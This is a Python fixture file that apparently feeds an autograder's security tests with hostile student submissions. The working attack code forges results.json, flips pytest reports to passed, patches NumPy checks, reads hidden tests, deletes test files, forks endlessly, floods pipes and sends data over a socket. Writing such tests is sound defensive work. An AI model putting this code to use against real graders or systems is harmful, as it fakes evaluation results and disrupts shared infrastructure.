"""The hostile submissions: the buggy reference ``tensor.py`` plus code that tries to beat the grader.

Each attack's code runs either at import time (appended to the module) or inside a test
(wrapped around ``Tensor.__add__``, which every group calls). ``{results}``, ``{root}`` and
``{port}`` in the code are filled in per run, so an attack knows what a real attacker would
have to guess: where results.json is written and where the grader lives. ``{drop}`` is a
world-writable folder where an attack leaves a heartbeat, so the suite can tell whether a
process of the submission outlived the grader.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field

FAKE_RESULTS = '{"score": 1000, "tests": [{"name": "pwned", "score": 1000, "max_score": 1, "status": "passed"}]}'


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    code: str
    where: str = "import"
    """"import": runs when the module is imported; "test": runs inside Tensor.__add__ during a test."""
    extra_files: dict = field(default_factory=dict)
    """More files in the submission, besides tensor.py (a conftest, a plugin ...)."""
    needs_root: str = ""
    """Why the defence needs the grader to run as root (empty: it holds either way)."""
    evidence: str = ""
    """Text the results must show when the defence fired (proof the attack really ran)."""
    limitation: str = ""
    """A documented known limitation (docs/SECURITY.md): no defence exists on this platform."""


def submission(attack: Attack, base: str, **values: str) -> dict[str, str]:
    """The submission's files: tensor.py with the attack in place, and any extra files."""
    code = textwrap.dedent(attack.code).strip("\n")
    for key, value in values.items():
        code = code.replace("{" + key + "}", value)
    if attack.where == "import":
        tensor = base + "\n\n# --- hostile code ---\n" + code + "\n"
    else:
        body = textwrap.indent(code, "    ")
        tensor = (base + "\n\n# --- hostile code, run inside a test ---\n_original_add = Tensor.__add__\n\n\n"
                  f"def _hostile_add(self, other):\n{body}\n    return _original_add(self, other)\n\n\n"
                  "Tensor.__add__ = _hostile_add\n")
    return {"tinytorch/core/tensor.py": tensor, **attack.extra_files}


FLIP_TO_PASSED = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''

ATTACKS = [
    Attack("write_results_json", "write and replace results.json before the grader does", f"""
        import os
        for path in ("{{results}}", "/autograder/results/results.json"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write('{FAKE_RESULTS}')
            except OSError as error:
                print("could not write", path, error)
        """),
    Attack("rewrite_results_after_the_run", "leave a daemon that rewrites results.json after the grader finished", f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 4096)  # a proper daemon: the grader sees no open pipe of it
                for _ in range(800):
                    try:
                        with open("{{results}}", "w") as handle:
                            handle.write('{FAKE_RESULTS}')
                    except OSError:
                        pass
                    with open("{{drop}}/alive", "w") as handle:
                        handle.write(str(time.time()))
                    time.sleep(0.05)
            os._exit(0)
        """),
    Attack("sys_exit_at_import", "exit 0 with sys.exit while pytest imports the module", """
        import sys
        sys.exit(0)
        """, evidence="Not run"),
    Attack("os_exit_at_import", "exit 0 with os._exit while pytest imports the module", """
        import os
        os._exit(0)
        """, evidence="Not run"),
    Attack("os_exit_inside_a_test", "exit 0 with os._exit in the middle of a test", """
        import os
        os._exit(0)
        """, where="test", evidence="Not run"),
    Attack("sys_exit_inside_a_test", "raise SystemExit(0) in the middle of a test", """
        raise SystemExit(0)
        """, where="test", evidence="SystemExit"),
    Attack("patch_pytest_reports", "patch pytest's report class and runner so every test reports passed", """
        import _pytest.reports, _pytest.runner
        _original_report = _pytest.runner.call_and_report

        def _always_passed(*args, **kwargs):
            report = _original_report(*args, **kwargs)
            report.outcome = "passed"
            report.longrepr = None
            return report

        _pytest.runner.call_and_report = _always_passed
        _pytest.reports.TestReport.failed = property(lambda self: False)
        """, evidence="replaced functions"),
    Attack("register_a_hook_at_runtime", "find pytest's config in memory and register a plugin that flips failures", textwrap.dedent("""
        import gc, types
        import _pytest.config
        _plugin = types.ModuleType("friendly_plugin")
        exec(compile('''FLIP''', "friendly_plugin.py", "exec"), _plugin.__dict__)
        for _obj in gc.get_objects():
            if isinstance(_obj, _pytest.config.Config):
                _obj.pluginmanager.register(_plugin, "friendly")
                break
        """).replace("FLIP", FLIP_TO_PASSED), evidence="replaced functions"),
    Attack("ship_conftest_and_plugins", "ship a conftest.py, a pytest plugin, sitecustomize and pytest.ini", """
        pass
        """, extra_files={
            "conftest.py": FLIP_TO_PASSED,
            "tests/conftest.py": FLIP_TO_PASSED,
            "hidden_tests/conftest.py": FLIP_TO_PASSED,
            "pytest_friendly.py": FLIP_TO_PASSED,
            "sitecustomize.py": "import os\nos.environ['PYTEST_ADDOPTS'] = '-p pytest_friendly'\n",
            "pytest.ini": "[pytest]\naddopts = -p pytest_friendly\n",
            "tinytorch/__init__.py": "import pytest_friendly\n",
        }),
    Attack("echo_hidden_tests", "read the hidden test file and echo it into visible feedback", """
        import os
        _found = []
        for _top in ("{root}", "/autograder", "/tmp", os.getcwd(), os.path.dirname(os.getcwd())):
            for _folder, _dirs, _files in os.walk(_top):
                for _name in _files:
                    if _name.startswith("test_hidden"):
                        try:
                            with open(os.path.join(_folder, _name)) as _handle:
                                _found.append(_handle.read())
                        except OSError:
                            pass
        print("\\n".join(_found))
        if _found:
            raise AssertionError("hidden tests:\\n" + "\\n".join(_found))
        """, where="test", needs_root="a grader that is not root cannot hide the bundle from the student code"),
    Attack("infinite_loop_in_a_test", "loop forever inside a test", """
        while True:
            pass
        """, where="test", evidence="timed out"),
    Attack("infinite_loop_at_import", "loop forever while the module is imported (before any per-test timeout)", """
        while True:
            pass
        """, evidence="stopped after"),
    Attack("sleep_past_the_timeout", "ignore the timeout signal and sleep past every limit", """
        import signal, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        time.sleep(3600)
        """, where="test", evidence="stopped after"),
    Attack("fork_bomb", "fork without end", """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """, evidence="stopped after"),
    Attack("unbounded_memory", "allocate memory without end", """
        _hoard = []
        while True:
            _hoard.append(bytearray(64 * 2**20))
        """, where="test"),
    Attack("print_gigabytes", "print gigabytes to stdout", """
        import os
        _chunk = b"x" * 2**20
        for _ in range(4096):
            os.write(1, _chunk)
        """, where="test", evidence="File too large"),
    Attack("delete_and_edit_tests", "delete or rewrite every test file, conftest and the bundle it can reach", """
        import os
        for _top in ("{root}", os.getcwd()):
            for _folder, _dirs, _files in os.walk(_top):
                for _name in _files:
                    _path = os.path.join(_folder, _name)
                    if _name.startswith("test_") or _name in ("conftest.py", "grader.json"):
                        try:
                            with open(_path, "w") as _handle:
                                _handle.write("def test_free_points():\\n    pass\\n")
                        except OSError:
                            try:
                                os.remove(_path)
                            except OSError:
                                pass
        """, needs_root="a grader that is not root shares its user with the student code, which may then edit the bundle"),
    Attack("monkeypatch_numpy", "make NumPy's comparisons always agree", """
        import numpy
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        numpy.allclose = lambda *args, **kwargs: True
        """, evidence="replaced functions"),
    Attack("shadow_builtins_in_numpy", "add names to NumPy's modules that shadow the builtins their code calls", """
        import numpy.testing._private.utils as _utils
        _utils.all = lambda iterable: True
        _utils.any = lambda iterable: False
        """, evidence="replaced functions"),
    Attack("monkeypatch_fixtures_and_earlier_modules", "replace the shared test helper and an earlier module's function", """
        import sys
        import conftest
        import tinytorch.core.earlier
        conftest.assert_close = lambda *args, **kwargs: None
        tinytorch.core.earlier.expected_total = lambda values: 0.0
        """, evidence="replaced functions"),
    Attack("open_a_network_socket", "connect to a server and send it data", """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _sock:
                _sock.sendall(b"leaked")
        except OSError as error:
            print("no network:", error)
        """, needs_root="network namespaces need root (or user namespaces)"),
    Attack("flood_every_pipe", "write gigabytes past pytest's capture, to every pipe the process holds", """
        import os
        _chunk = b"y" * 2**20
        _pipes = []
        for _fd in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                    _pipes.append(int(_fd))
            except OSError:
                pass
        for _ in range(4096):
            for _fd in _pipes:
                try:
                    os.write(_fd, _chunk)
                except OSError:
                    pass
        """, evidence="stopped"),
    Attack("forge_the_report_channel", "write a forged all-passed report into the grader's pipe, then exit", """
        import json, os, sys
        _pipes = []
        for _fd in os.listdir("/proc/self/fd"):
            try:
                if int(_fd) > 2 and os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                    _pipes.append(int(_fd))
            except OSError:
                pass
        _ids = [f"{path}::{name}" for path, names in (
            ("tests/01_tensor/test_basics.py", ("test_shape", "test_add", "test_multiply", "test_sum")),
            ("hidden_tests/01_tensor/test_hidden.py", ("test_broadcast_add", "test_scale_then_sum")))
            for name in names]
        for _fd in _pipes:
            for _nodeid in _ids:
                try:
                    os.write(_fd, (json.dumps({"kind": "progress", "nodeid": _nodeid, "outcome": "passed"}) + "\\n").encode())
                except OSError:
                    pass
        os._exit(0)
        """, limitation="pytest imports the student's code into the process that runs the tests, so that "
                        "code can speak for the process: a submission written against this grader can forge "
                        "the report it sends (docs/SECURITY.md, 'What does not hold')"),
]
